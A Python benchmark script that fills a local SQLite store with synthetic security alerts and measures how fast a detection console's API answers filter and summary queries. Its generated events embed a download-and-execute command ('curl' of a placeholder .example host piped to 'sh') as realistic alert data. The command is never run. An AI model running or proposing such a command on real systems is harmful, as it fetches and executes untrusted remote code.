"""Alert queue query benchmark: the console's first page and filters over a large local store.

    python bench/console_queries.py --json [--alerts 100000] [--runs 7] [--seed 1]

Fills a fresh SQLite alert store (``AlertStore.upsert`` in batches of 1,000,
as the store sink writes) with ``--alerts`` alerts of 200 rules at all five
levels, 500 hosts, 2,000 users, four log sources and detection times spread
over 30 days; a tenth of them are then acknowledged or resolved through the
triage store. Each query is then sent ``--runs`` times to the API app in the
same process (``httpx.ASGITransport``: no network, the full FastAPI stack:
parameter parsing, the store query in a worker thread, serialisation), after
one warm-up request; the figures are the server's time per request in
milliseconds (median, min, max). Goals (issue 15): first page < 300 ms,
filters < 500 ms.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from detectors.alert import build_alert  # noqa: E402
from detectors.model import LEVELS, LogSource, Match, Origin, RuleInfo  # noqa: E402
from service.alerting.api import api_router  # noqa: E402
from service.alerting.config import AlertingSettings  # noqa: E402
from service.alerting.router import AlertRouter  # noqa: E402
from service.alerting.triage import TriagePatch  # noqa: E402
from service.alerting.triage_store import TriageStore  # noqa: E402

NOW = 1_800_000_000.0
SPAN_S = 30 * 86_400
SOURCES = [("linux", None, "process_creation"), ("github", "audit", None), ("aws", "cloudtrail", None),
           ("kubernetes", "audit", None)]
TECHNIQUES = ["attack.t1059.001", "attack.t1078", "attack.t1105", "attack.t1552", "attack.t1098", "attack.t1190"]
TACTICS = ["attack.execution", "attack.persistence", "attack.credential-access", "attack.initial-access"]


def make_rules(rng: random.Random) -> list[RuleInfo]:
    rules = []
    for i in range(200):
        tags = (rng.choice(TACTICS), rng.choice(TECHNIQUES))
        rules.append(RuleInfo(id=f"rule-{i:03d}", title=f"Suspicious activity {i}", level=LEVELS[i % 5],
                              author="bench", description="generated", tags=tags))
    return rules


def fill(router: AlertRouter, n: int, seed: int) -> float:
    """Store ``n`` alerts; returns the seconds it took."""
    rng = random.Random(seed)
    rules = make_rules(rng)
    started = time.perf_counter()
    batch: list[dict[str, Any]] = []
    for i in range(n):
        rule = rng.choice(rules)
        product, service, category = rng.choice(SOURCES)
        detected = NOW - rng.random() * SPAN_S
        event = {"host": f"web-{rng.randrange(500)}", "user": {"name": f"user-{rng.randrange(2000)}"},
                 "process": {"command_line": f"/bin/sh -c 'curl https://dl-{rng.randrange(10_000)}.example/x | sh'",
                             "pid": rng.randrange(1, 65_536)},
                 "source": {"ip": f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"},
                 "message": f"job {i} finished with status {rng.choice(['ok', 'failed', 'cancelled'])}"}
        alert = build_alert(Match(rule=rule, fields=(("process.command_line", event["process"]["command_line"]),)),
                            event, Origin(input="kafka", topic="logs", partition=i % 12, offset=i),
                            event_time=detected - rng.random() * 30, now=detected,
                            logsource=LogSource(product=product, service=service, category=category))
        batch.append(alert.to_document())
        if len(batch) == 1000:
            router.store.upsert(batch)
            batch = []
    if batch:
        router.store.upsert(batch)
    return time.perf_counter() - started


def triage_some(router: AlertRouter, n: int, seed: int) -> None:
    rng = random.Random(seed + 1)
    ids = [r[0] for r in router.store.call("ids", lambda db: db.execute("SELECT id FROM alerts").fetchall())]
    chosen = rng.sample(ids, n // 10)
    triage = TriageStore(router.store)
    for start in range(0, len(chosen), 500):
        part = chosen[start:start + 500]
        if start % 1000:
            triage.change_many(part, TriagePatch(status="acknowledged", assignee=f"analyst-{start // 1000 % 5}",
                                                 set_assignee=True), "bench")
        else:
            triage.change_many(part, TriagePatch(status="resolved", disposition="false_positive"), "bench")


QUERIES: list[tuple[str, str, dict[str, Any]]] = [
    ("first_page", "/api/v1/alerts", {}),
    ("first_page_200", "/api/v1/alerts", {"limit": 200}),
    ("levels_high_critical_24h", "/api/v1/alerts", {"level": ["high", "critical"], "since": "24h"}),
    ("min_level_high", "/api/v1/alerts", {"min_level": "high"}),
    ("status_new_min_medium", "/api/v1/alerts", {"status": "new", "min_level": "medium"}),
    ("assignee", "/api/v1/alerts", {"assignee": "analyst-1"}),
    ("rule", "/api/v1/alerts", {"rule": "rule-042"}),
    ("tag_technique", "/api/v1/alerts", {"tag": "T1059"}),
    ("product", "/api/v1/alerts", {"product": "github"}),
    ("host", "/api/v1/alerts", {"host": "web-17"}),
    ("user", "/api/v1/alerts", {"user": "user-42"}),
    ("since_7d_until_6d", "/api/v1/alerts", {"since": "now-7d", "until": "now-6d"}),
    ("q_rare", "/api/v1/alerts", {"q": "dl-4242.example"}),
    ("q_common", "/api/v1/alerts", {"q": "cancelled"}),
    ("q_with_filters", "/api/v1/alerts", {"q": "cancelled", "min_level": "high", "since": "7d"}),
    ("offset_5000", "/api/v1/alerts", {"offset": 5000}),
    ("summary", "/api/v1/alerts/summary", {}),
    ("summary_high_24h", "/api/v1/alerts/summary", {"min_level": "high", "since": "24h"}),
    ("rules_with_fp_ratio", "/api/v1/rules_stats", {}),
]


async def measure(router: AlertRouter, runs: int) -> dict[str, dict[str, float]]:
    from fastapi import FastAPI

    from service.api.auth import guard
    from service.config import ApiSettings

    app = FastAPI()
    app.include_router(api_router(router))
    guard(app, ApiSettings())
    triage = TriageStore(router.store)
    out: dict[str, dict[str, float]] = {}
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1",
                                 headers={"X-Pipesentry-Client": "bench"}) as client:
        for name, path, params in QUERIES:
            times: list[float] = []
            total = None
            for i in range(runs + 1):
                started = time.perf_counter()
                if path == "/api/v1/rules_stats":  # the store call behind GET /api/v1/rules' counts
                    stats = await asyncio.to_thread(triage.rule_stats)
                    total = len(stats)
                else:
                    response = await client.get(path, params=params)
                    assert response.status_code == 200, response.text
                    total = response.json()["total"]
                if i:  # the first run warms caches
                    times.append((time.perf_counter() - started) * 1000)
            out[name] = {**spread_ms(times), "matches": float(total or 0)}
    return out


def spread_ms(times: list[float]) -> dict[str, float]:
    """Median, min and max of request times in ms (one decimal), as both console benches report them."""
    return {"median_ms": round(statistics.median(times), 1), "min_ms": round(min(times), 1),
            "max_ms": round(max(times), 1)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=100_000)
    parser.add_argument("--runs", type=int, default=7)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="pipesentry-console-bench-") as tmp:
        router = AlertRouter(AlertingSettings.model_validate({"sinks": [{"type": "store"}]}), Path(tmp),
                             clock=lambda: NOW)
        router.store.open()
        try:
            fill_s = fill(router, args.alerts, args.seed)
            triage_some(router, args.alerts, args.seed)
            size = sum(p.stat().st_size for p in Path(tmp).rglob("alerts.db*"))
            figures = asyncio.run(measure(router, args.runs))
        finally:
            router.store.close()
    result = {"alerts": args.alerts, "runs": args.runs, "fill_s": round(fill_s, 1),
              "fill_alerts_per_s": round(args.alerts / fill_s), "store_mb": round(size / 1e6, 1),
              "queries": figures}
    if args.json:
        print(json.dumps(result, indent=2))
        return
    print(f"{args.alerts} alerts stored in {fill_s:.1f} s ({result['fill_alerts_per_s']}/s), "
          f"store {result['store_mb']} MB; {args.runs} runs per query")
    print(f"{'query':28} {'median ms':>10} {'min':>8} {'max':>8} {'matches':>9}")
    for name, f in figures.items():
        print(f"{name:28} {f['median_ms']:>10} {f['min_ms']:>8} {f['max_ms']:>8} {int(f['matches']):>9}")


if __name__ == "__main__":
    main()
